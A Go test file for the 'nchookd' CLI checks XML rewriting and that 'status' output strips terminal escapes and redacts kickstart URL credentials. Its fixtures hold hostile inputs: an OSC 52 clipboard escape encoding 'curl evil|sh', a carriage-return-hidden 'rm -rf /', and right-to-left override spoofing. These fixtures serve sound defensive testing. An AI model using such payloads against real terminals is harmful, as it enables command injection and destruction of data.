package main

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kscloud/kscloud/internal/hook"
	"github.com/kscloud/kscloud/internal/hookproto"
	"github.com/kscloud/kscloud/internal/preboot"
)

const samples = "../../test/samples/eucalyptus"

func runCLI(args ...string) (int, string, string) {
	var so, se bytes.Buffer
	code := run(args, &so, &se)
	return code, so.String(), se.String()
}

func TestRewriteSamples(t *testing.T) {
	for _, pair := range [][2]string{{"instance-3.1.xml", "libvirt-3.1.xml"}, {"instance-3.4.xml", "instance-libvirt-3.4.2.xml"}} {
		code, out, stderr := runCLI("rewrite", "--config", "/dev/null",
			"--instance-xml", filepath.Join(samples, pair[0]), "--domain-xml", filepath.Join(samples, pair[1]))
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", pair[1], code, stderr)
		}
		if !strings.Contains(out, "<cmdline>ks=http://10.0.0.1/ks.cfg ksdevice=link ip=dhcp console=ttyS1</cmdline>") {
			t.Fatalf("%s: output:\n%s", pair[1], out)
		}
	}
}

func TestRewriteNoBootparamsAndBadInput(t *testing.T) {
	dir := t.TempDir()
	inst, _ := os.ReadFile(filepath.Join(samples, "instance-3.4.xml"))
	plain := strings.Replace(string(inst), "Ym9vdHBhcmFtcz1rcz1odHRwOi8vMTAuMC4wLjEva3MuY2ZnIGtzZGV2aWNlPWxpbmsgaXA9ZGhjcAo=",
		base64.StdEncoding.EncodeToString([]byte("#cloud-config\n")), 1)
	ip := filepath.Join(dir, "instance.xml")
	os.WriteFile(ip, []byte(plain), 0o644)
	dom := filepath.Join(samples, "instance-libvirt-3.4.2.xml")
	want, _ := os.ReadFile(dom)
	code, out, stderr := runCLI("rewrite", "--config", "/dev/null", "--instance-xml", ip, "--domain-xml", dom)
	if code != 0 || out != string(want) || !strings.Contains(stderr, "no bootparams") {
		t.Fatalf("no bootparams: exit %d, changed=%v, stderr %q", code, out != string(want), stderr)
	}
	// Bad input is a failure (1), not a usage error (2).
	bad := strings.Replace(string(inst), "Ym9vdHBhcmFtcz1", "%%%", 1)
	os.WriteFile(ip, []byte(bad), 0o644)
	code, out, stderr = runCLI("rewrite", "--config", "/dev/null", "--instance-xml", ip, "--domain-xml", dom)
	if code != 1 || out != "" || strings.Count(stderr, "\n") != 1 || !strings.Contains(stderr, "i-3A2B41C0") {
		t.Fatalf("bad base64: exit %d, stdout %q, stderr %q", code, out, stderr)
	}
	os.WriteFile(filepath.Join(dir, "d.xml"), []byte("<domain><os></domain>"), 0o644)
	code, _, stderr = runCLI("rewrite", "--config", "/dev/null", "--instance-xml", filepath.Join(samples, "instance-3.4.xml"), "--domain-xml", filepath.Join(dir, "d.xml"))
	if code != 1 || strings.Count(stderr, "\n") != 1 {
		t.Fatalf("bad domain XML: exit %d, stderr %q", code, stderr)
	}
	if code, _, _ := runCLI("rewrite", "--instance-xml", ip); code != 2 {
		t.Fatalf("missing flag: exit %d", code)
	}
}

func TestCheck(t *testing.T) {
	dir := t.TempDir()
	cfg := filepath.Join(dir, "nchookd.toml")
	os.WriteFile(cfg, []byte("[installer.f40]\nkernel = \"/nonexistent/vmlinuz\"\ninitrd = \"/nonexistent/initrd.img\"\n"), 0o644)
	code, _, stderr := runCLI("check", "--config", cfg)
	if code != 1 || !strings.Contains(stderr, `installer "f40": kernel /nonexistent/vmlinuz`) {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	// A node this machine can be: its instances root exists, no group
	// or users that it lacks.
	node := "[hook]\ninstances_root = [\"" + dir + "\"]\nsocket_group = \"\"\nallowed_users = []\n"
	os.WriteFile(cfg, []byte(node+"[policy]\nvnc = \"loopback\"\n"), 0o644)
	code, out, stderr := runCLI("check", "--config", cfg, "--print")
	if code != 0 || !strings.Contains(out, `vnc = "loopback"`) {
		t.Fatalf("exit %d: %s %s", code, out, stderr)
	}
}

// statusDaemon answers every request on a fresh unix socket with resp, as
// nchookd serve would for instances whose console and user-data carry
// terminal escapes.
func statusDaemon(t *testing.T, resp hookproto.Response) string {
	t.Helper()
	sock := filepath.Join(t.TempDir(), "s.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			if _, err := hookproto.ReadRequest(bufio.NewReader(c)); err == nil {
				hookproto.WriteResponse(c, &resp)
			}
			c.Close()
		}
	}()
	return sock
}

// TestStatusEscapes: what a guest prints on its console and what a tenant
// puts in bootparams reach the operator's terminal without a single escape
// or control character, and format characters (RLO) show as \u202e.
func TestStatusEscapes(t *testing.T) {
	st := hookproto.InstanceStatus{Phase: "failed", StartedAt: time.Now(),
		Reason:    "installer failed: \x1b]52;c;Y3VybCBldmlsfHNo\x07Traceback (most recent call last)",
		Progress:  "\x1b]0;root@node\x07installing \x1b[2J\x1b[Hpackages 3/9",
		LastLines: []string{"ok\rrm -rf /", "\x1bP+q\x1b\\dcs", "\u009b31mred"}}
	st.Instance, st.Mode = "i-1234ABCD", "bake"
	st.Cmdline = "inst.ks=http://10.0.0.1/\u202egfc.sk ip=dhcp"
	st.Notes = []string{"note\x1b[8mhidden"}
	sock := statusDaemon(t, hookproto.Response{OK: true, Instances: []hookproto.InstanceStatus{st}})
	t.Setenv(hook.EnvSocket, sock)
	for _, args := range [][]string{{"status", "--config", "/dev/null"}, {"status", "--config", "/dev/null", "i-1234ABCD"}, {"status", "--config", "/dev/null", "--json"}} {
		code, out, stderr := runCLI(args...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, stderr)
		}
		for _, bad := range []string{"\x1b", "\\u001b", "\x07", "\r", "\u009b", "\u202e"} {
			if strings.Contains(out, bad) {
				t.Errorf("%v: output holds %q:\n%s", args, bad, out)
			}
		}
		if len(args) == 3 { // the list: instance, mode, phase, reason
			if !strings.Contains(out, "installer failed: Traceback") {
				t.Errorf("%v: output lost the reason:\n%s", args, out)
			}
		} else if !strings.Contains(out, `\u202e`) || !strings.Contains(out, "packages 3/9") || !strings.Contains(out, "okrm -rf /") {
			t.Errorf("%v: output lost text or the escaped RLO:\n%s", args, out)
		}
	}
	sock = statusDaemon(t, hookproto.Response{Error: "no instance \x1b]0;pwned\x07x"})
	t.Setenv(hook.EnvSocket, sock)
	if code, _, stderr := runCLI("status", "--config", "/dev/null", "x"); code != 1 || strings.ContainsAny(stderr, "\x1b\x07") {
		t.Fatalf("error answer: exit %d, stderr %q", code, stderr)
	}
}

// TestStatusVNCIPv6: a VNC console listening on an IPv6 address shows as
// [addr]:port, in the list and in one instance's status.
func TestStatusVNCIPv6(t *testing.T) {
	st := hookproto.InstanceStatus{Phase: "installing", StartedAt: time.Now()}
	st.Instance, st.Mode = "i-1234ABCD", "in-place"
	st.VNC = &preboot.VNCInfo{Listen: "fd00:1::5", Port: 5901, Password: "abcdefgh"}
	t.Setenv(hook.EnvSocket, statusDaemon(t, hookproto.Response{OK: true, Instances: []hookproto.InstanceStatus{st}}))
	for args, want := range map[string]string{
		"status":            "[fd00:1::5]:5901",
		"status i-1234ABCD": "[fd00:1::5]:5901 password abcdefgh",
	} {
		a := append(strings.Fields(args), "--config", "/dev/null")
		if len(a) == 4 {
			a = []string{"status", "--config", "/dev/null", "i-1234ABCD"}
		}
		code, out, stderr := runCLI(a...)
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("%v: exit %d, want %q in:\n%s%s", a, code, want, out, stderr)
		}
	}
}

// TestStatusRedactsURLs: a tenant's installer command line can name a
// kickstart URL with user:password@ or ?token=, and the installer prints
// the URL it fetches on its console; status shows neither secret, in text
// or JSON, and keeps where the kickstart came from.
func TestStatusRedactsURLs(t *testing.T) {
	st := hookproto.InstanceStatus{Phase: "failed", StartedAt: time.Now(),
		Reason:    "installer reported: kickstart file not found: https://deploy:hunter2@ks.example.com/f40.cfg",
		Progress:  "fetching https://ks.example.com/f40.cfg?token=9f8e7d",
		LastLines: []string{"Fetching https://deploy:hunter2@ks.example.com/f40.cfg?token=9f8e7d"}}
	st.Instance, st.Mode = "i-1234ABCD", "in-place"
	st.Cmdline = "inst.ks=https://deploy:hunter2@ks.example.com/f40.cfg?token=9f8e7d&arch=x86_64 ip=dhcp"
	st.Notes = []string{"kickstart from https://deploy:hunter2@ks.example.com/f40.cfg"}
	t.Setenv(hook.EnvSocket, statusDaemon(t, hookproto.Response{OK: true, Instances: []hookproto.InstanceStatus{st}}))
	for _, args := range [][]string{
		{"status", "--config", "/dev/null"},
		{"status", "--config", "/dev/null", "i-1234ABCD"},
		{"status", "--config", "/dev/null", "--output", "json"},
	} {
		code, out, stderr := runCLI(args...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, stderr)
		}
		for _, secret := range []string{"hunter2", "9f8e7d", "deploy:", "x86_64"} {
			if strings.Contains(out, secret) {
				t.Errorf("%v: output holds %q:\n%s", args, secret, out)
			}
		}
		if len(args) == 3 {
			if !strings.Contains(out, "kickstart file not found: https://REDACTED@ks.example.com/f40.cfg") {
				t.Errorf("%v: reason not shown redacted:\n%s", args, out)
			}
			continue
		}
		shown := out
		if args[len(args)-1] == "json" {
			var r struct{ Instances []hookproto.InstanceStatus }
			if err := json.Unmarshal([]byte(out), &r); err != nil || len(r.Instances) != 1 {
				t.Fatalf("%v: %v:\n%s", args, err, out)
			}
			shown = r.Instances[0].Cmdline
		}
		if !strings.Contains(shown, "inst.ks=https://REDACTED@ks.example.com/f40.cfg?token=REDACTED&arch=REDACTED ip=dhcp") {
			t.Errorf("%v: command line not shown redacted:\n%s", args, out)
		}
	}
}
